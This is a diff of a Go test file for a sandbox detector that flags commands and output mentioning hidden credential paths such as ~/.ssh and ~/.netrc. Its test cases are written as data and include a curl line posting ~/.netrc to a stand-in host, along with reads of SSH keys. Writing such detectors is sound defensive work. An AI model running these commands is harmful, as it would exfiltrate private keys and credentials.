@@ -11,8 +11,8 @@ import (
 	"github.com/snapfs/snapfs/internal/treetest"
 )
 
-// namedHome returns a home directory with the keys that the sandbox hides, and the hidden places.
-func namedHome(t *testing.T) (home string, places []string) {
+// homeWithKeys returns a home directory with the keys that the sandbox hides, and the hidden places.
+func homeWithKeys(t *testing.T) (home string, places attempts.Places) {
 	t.Helper()
 	home = treetest.Dir(t)
 	for _, name := range []string{".ssh/id", ".ssh/config", ".netrc", "work/notes", ".sshd/x", "my keys/id"} {
@@ -27,11 +27,11 @@ func namedHome(t *testing.T) (home string, places []string) {
 	if err := os.Symlink(home+"/.ssh", home+"/work/link"); err != nil {
 		t.Fatal(err)
 	}
-	return home, []string{home + "/.netrc", home + "/.ssh", home + "/my keys"}
+	return home, attempts.PlacesOf([]string{home + "/.netrc", home + "/.ssh", home + "/my keys"}, nil)
 }
 
-func TestAHiddenPathThatACommandNamesIsFound(t *testing.T) {
-	home, places := namedHome(t)
+func TestAHiddenPathThatACommandMentionsIsFound(t *testing.T) {
+	home, places := homeWithKeys(t)
 	ssh := home + "/.ssh"
 	for text, want := range map[string]string{
 		"cat|" + ssh + "/id":                              ssh,
@@ -45,8 +45,8 @@ func TestAHiddenPathThatACommandNamesIsFound(t *testing.T) {
 		"docker|-v|" + ssh + ":/keys|x":                   ssh,
 		"curl|-d|@" + home + "/.netrc|https://x/y":        home + "/.netrc",
 		"cat|../.ssh/id":                                  ssh,
-		"cat|link/id":                                     ssh,
-		"cat|" + home + "/work/link/id":                   ssh,
+		"cat|link/id":                                     "", // no path of a command is looked up
+		"cat|" + home + "/work/link/id":                   "",
 		"cat|" + home + "/my keys/id":                     home + "/my keys",
 		"sh|-c|cat '" + home + "/my keys/id'":             "",  // in a text, a space ends a path
 		"cat|" + ssh + "/none":                            ssh, // the answer must not say whether the host has it
@@ -59,33 +59,33 @@ func TestAHiddenPathThatACommandNamesIsFound(t *testing.T) {
 		"":          "",
 		"cat||-|.|": "",
 	} {
-		n := attempts.Naming{Args: strings.Split(text, "|"), Dir: home + "/work", Home: home}
+		m := attempts.Mentions{Args: strings.Split(text, "|"), Dir: home + "/work", Home: home}
 		got := ""
-		if list := n.Hidden(places); len(list) > 0 {
+		if list := m.Hidden(places); len(list) > 0 {
 			got = list[0].Place
 		}
 		if got != want {
-			t.Errorf("%.100q names the hidden place %q, want %q", text, got, want)
+			t.Errorf("%.100q mentions the hidden place %q, want %q", text, got, want)
 		}
 	}
 }
 
 func TestAHiddenPathInTheOutputIsFoundOncePerPlace(t *testing.T) {
-	home, places := namedHome(t)
-	n := attempts.Naming{
+	home, places := homeWithKeys(t)
+	m := attempts.Mentions{
 		Args: []string{"make"}, Home: home, Dir: home,
 		Output: "cat: " + home + "/.ssh/id: No such file or directory\r\nopen '" + home + "/.ssh/config': x\n" +
 			"config: ~/.netrc, /etc/passwd",
 	}
-	want := []attempts.NamedPath{{Path: home + "/.ssh/id", Place: home + "/.ssh"}, {Path: home + "/.netrc", Place: home + "/.netrc"}}
-	if got := n.Hidden(places); !slices.Equal(got, want) {
+	want := []attempts.HiddenPath{{Path: home + "/.ssh/id", Place: home + "/.ssh"}, {Path: home + "/.netrc", Place: home + "/.netrc"}}
+	if got := m.Hidden(places); !slices.Equal(got, want) {
 		t.Errorf("found %v, want %v", got, want)
 	}
-	if got := n.Hidden(nil); got != nil {
+	if got := m.Hidden(attempts.Places{}); got != nil {
 		t.Errorf("without hidden places, found %v", got)
 	}
-	n.Home = ""
-	if got := n.Hidden(places); len(got) != 1 {
+	m.Home = ""
+	if got := m.Hidden(places); len(got) != 1 {
 		t.Errorf("without a home directory, found %v", got)
 	}
 }
@@ -94,9 +94,30 @@ func TestPathsOutsideOfADirectoryAreNoticed(t *testing.T) {
 	for text, want := range map[string]bool{
 		"make|test|-j2|a/b": false, "cat|/w/x": false, "cat|../x": true, "cat|/x": true, "sh|-c|cat ~/x": true, "": false,
 	} {
-		n := attempts.Naming{Args: strings.Split(text, "|"), Dir: "/w", Home: "/home"}
-		if got := n.Leaves("/w"); got != want {
-			t.Errorf("%q leaves /w: %v, want %v", text, got, want)
+		m := attempts.Mentions{Args: strings.Split(text, "|"), Dir: "/w", Home: "/home"}
+		if got := m.Outside("/w"); got != want {
+			t.Errorf("%q mentions a path outside of /w: %v, want %v", text, got, want)
+		}
+	}
+}
+
+func TestALinkThatThePolicyHidesIsFollowedOnce(t *testing.T) {
+	home := treetest.Dir(t)
+	link, target := home+"/link", home+"/real/notes"
+	if err := os.MkdirAll(target, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(target, link); err != nil {
+		t.Fatal(err)
+	}
+	places := attempts.PlacesOf([]string{link}, []string{link, home + "/exposed"})
+	if err := os.RemoveAll(home + "/real"); err != nil { // from now on nothing is looked up
+		t.Fatal(err)
+	}
+	for path, want := range map[string]string{link + "/x": link, target + "/x": link, home + "/real": "", home + "/exposed": ""} {
+		got := attempts.Mentions{Args: []string{"cat", path}, Dir: home}.Hidden(places)
+		if want == "" && got != nil || want != "" && !slices.Equal(got, []attempts.HiddenPath{{Path: path, Place: want}}) {
+			t.Errorf("%s: found %v, want the place %q", path, got, want)
 		}
 	}
 }
